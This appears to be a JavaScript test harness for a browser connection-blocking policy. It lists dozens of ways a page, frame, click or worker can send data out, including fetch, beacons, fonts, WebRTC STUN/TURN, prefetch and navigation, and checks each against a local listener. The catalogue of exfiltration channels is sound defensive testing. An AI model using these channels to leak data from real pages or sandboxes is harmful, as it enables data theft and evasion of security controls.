// Ways to send data out of a page and a worker, each tried by real code there, and traps
// that record arrivals. Each way has its own port, so that a bare connection can be
// attributed to it.

import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { until } from './harness.mjs';

const SETTLE_MS = 1500;

/** How many pages load at once. More would delay each other. */
const LOADING = 3;

/**
 * Opens a free port of loopback, for TCP and for UDP. Other browsers on the machine use UDP
 * ports too.
 */
async function listeners() {
  for (;;) {
    const tcp = createServer();
    const udp = createSocket('udp4');
    await once(tcp.listen(0, '127.0.0.1'), 'listening');
    try {
      await once(udp.bind(tcp.address().port, '127.0.0.1'), 'listening');
      return { tcp, udp };
    } catch (error) {
      tcp.close();
      udp.close();
      if (error.code !== 'EADDRINUSE') throw error;
    }
  }
}

/** Opens a listener on loopback that records its connections and requests. Another port is another origin. */
async function trap(name) {
  const seen = { name, connections: 0, requests: [] };
  const sockets = new Set();
  const { tcp, udp } = await listeners();
  tcp.on('connection', (socket) => {
    sockets.add(socket);
    seen.connections++;
    socket.on('error', () => {});
    socket.on('data', (data) => {
      seen.requests.push(String(data).split('\r\n')[0]);
      socket.end('HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-type: text/html\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok');
    });
  });
  const { port } = tcp.address();
  udp.on('message', () => { seen.connections++; seen.requests.push('UDP'); });
  const close = async () => {
    for (const socket of sockets) socket.destroy();
    await Promise.all([new Promise((done) => tcp.close(done)), new Promise((done) => udp.close(done))]);
  };
  return { seen, url: `http://127.0.0.1:${port}/leak-${name}?secret=text`, close };
}

/** Attempts of a page without user action. Each gets the URL of its trap. */
export const fromPage = {
  fetch: (url) => fetch(url),
  'fetch without CORS': (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'text', keepalive: true }),
  fetchLater: (url) => globalThis.fetchLater?.(url, { activateAfter: 0 }),
  XMLHttpRequest: (url) => { const x = new XMLHttpRequest(); x.open('POST', url); x.send('text'); },
  WebSocket: (url) => { new WebSocket(url.replace('http', 'ws')); },
  EventSource: (url) => { new EventSource(url); },
  WebTransport: (url) => { const t = new WebTransport(url.replace('http', 'https')); t.ready.catch(() => {}); t.closed.catch(() => {}); },
  sendBeacon: (url) => { navigator.sendBeacon(url, 'text'); },
  image: (url) => { new Image().src = url; },
  'image in a style': (url) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url("${url}") }`);
    document.adoptedStyleSheets.push(sheet);
  },
  font: (url) => { new FontFace('leak', `url("${url}")`).load().catch(() => {}); },
  video: (url) => { document.body.append(Object.assign(document.createElement('video'), { src: url, preload: 'auto' })); },
  iframe: (url) => { document.body.append(Object.assign(document.createElement('iframe'), { src: url })); },
  object: (url) => { document.body.append(Object.assign(document.createElement('object'), { type: 'text/html', data: url })); },
  'script element': (url) => { document.body.append(Object.assign(document.createElement('script'), { src: url })); },
  'dynamic import': (url) => import(url),
  worker: (url) => { new Worker(url); },
  'shared worker': (url) => { new SharedWorker(url); },
  'link stylesheet': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })); },
  'link preload': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: url })); },
  'link modulepreload': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: url })); },
  'link prefetch': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url })); },
  'link prerender': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prerender', href: url })); },
  'link manifest': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: url })); },
  'link icon': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: url })); },
  'link preconnect': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: url })); },
  'speculation rules': (url) => {
    const script = Object.assign(document.createElement('script'), { type: 'speculationrules' });
    script.textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }] });
    document.head.append(script);
  },
  'WebRTC by STUN': async (url) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] });
    peer.createDataChannel('leak');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'WebRTC by TURN over TCP': async (url) => {
    const server = { urls: `turn:${new URL(url).host}?transport=tcp`, username: 'secret', credential: 'text' };
    const peer = new RTCPeerConnection({ iceServers: [server], iceTransportPolicy: 'relay' });
    peer.createDataChannel('leak');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'fetch of an empty frame': (url) => document.body.appendChild(document.createElement('iframe')).contentWindow.fetch(url),
};

/**
 * Has its own page, because Chromium 156 ends a page that tries this under
 * Connection-Allowlist.
 */
export const fromFrame = {
  'WebRTC of an empty frame': async (url) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] });
    peer.createDataChannel('leak');
    await peer.setLocalDescription(await peer.createOffer());
  },
};

/** Attempts that end the page or open another. Each runs in its own page after a real click. */
export const byClick = {
  form: (url) => {
    const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: url, method: 'post' }));
    HTMLFormElement.prototype.submit.call(form);
  },
  'form for a new window': (url) => {
    const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: url, target: '_blank' }));
    HTMLFormElement.prototype.submit.call(form);
  },
  'ping of a link': (url) => { document.body.appendChild(Object.assign(document.createElement('a'), { href: '#x', ping: url })).click(); },
  'window.open': (url) => { open(url); },
  'link for a new window': (url) => { document.body.appendChild(Object.assign(document.createElement('a'), { href: url, target: '_blank', rel: 'noopener' })).click(); },
  'link to save': (url) => { document.body.appendChild(Object.assign(document.createElement('a'), { href: url, download: 'x' })).click(); },
  location: (url) => { location.href = url; },
  'window.open of this window': (url) => { open(url, '_self'); },
  'meta refresh': (url) => { document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}` })); },
  'location of an empty frame': (url) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.contentWindow.top.location.href = url;
  },
};

/** Attempts of a dedicated worker. */
export const fromWorker = {
  fetch: fromPage.fetch,
  'fetch without CORS': fromPage['fetch without CORS'],
  XMLHttpRequest: fromPage.XMLHttpRequest,
  WebSocket: fromPage.WebSocket,
  EventSource: fromPage.EventSource,
  WebTransport: fromPage.WebTransport,
  font: fromPage.font,
  importScripts: (url) => { importScripts(url); },
  'dynamic import': fromPage['dynamic import'],
  'nested worker': fromPage.worker,
  'cache of the browser': async (url) => { await (await caches.open('leak')).add(url); },
  WebRTC: fromPage['WebRTC by STUN'],
};

/** Runs an attempt and ignores its failure, which counts as success here. */
async function quietly(target, attempt, url) {
  const source = `(async (url) => { try { await Promise.race([(${attempt})(url), new Promise((done) => setTimeout(done, 500))]); } catch {} })(${JSON.stringify(url)})`;
  await target.evaluate(source).catch(() => undefined); // the page may be gone
}

/**
 * Tries all ways in one page or worker, and returns the arrivals by name. Waits for the
 * `expected` ones.
 */
export async function tryAll(target, attempts, expected = []) {
  const traps = await Promise.all(Object.keys(attempts).map(trap));
  await Promise.all(traps.map(({ seen, url }) => quietly(target, attempts[seen.name], url)));
  return collect(traps, expected);
}

/** Tries each way in its own page, inside the handler of a real click; like tryAll. */
export async function tryByClick(openPage, attempts, expected = []) {
  const traps = await Promise.all(Object.keys(attempts).map(trap));
  const attempt = async ({ seen, url }) => {
    const page = await openPage();
    page.on('crash', () => seen.requests.push('the page has crashed'));
    await page.evaluate(`document.body.appendChild(Object.assign(document.createElement('button'), { id: 'leak', onclick: () => {
      try { (${attempts[seen.name]})(${JSON.stringify(url)}); } catch {}
    } })); document.querySelector('#leak').style.cssText = 'position:fixed;inset:0;z-index:99'`);
    await page.click('#leak', { noWaitAfter: true });
  };
  const left = traps.values(); // one iterator shared by all
  await Promise.all(Array.from({ length: LOADING }, async () => { for (const each of left) await attempt(each); }));
  return collect(traps, expected);
}

const hasCome = ({ seen }) => seen.connections + seen.requests.length > 0;

async function collect(traps, expected) {
  await until(() => traps.every((each) => hasCome(each) || !expected.includes(each.seen.name))).catch(() => undefined); // the caller reports missing ones
  await new Promise((done) => setTimeout(done, SETTLE_MS)); // there is no event for an absent request
  const arrived = Object.fromEntries(traps.filter(hasCome)
    .map(({ seen }) => [seen.name, seen.requests[0] ?? 'connection']));
  await Promise.all(traps.map(({ close }) => close()));
  return arrived;
}
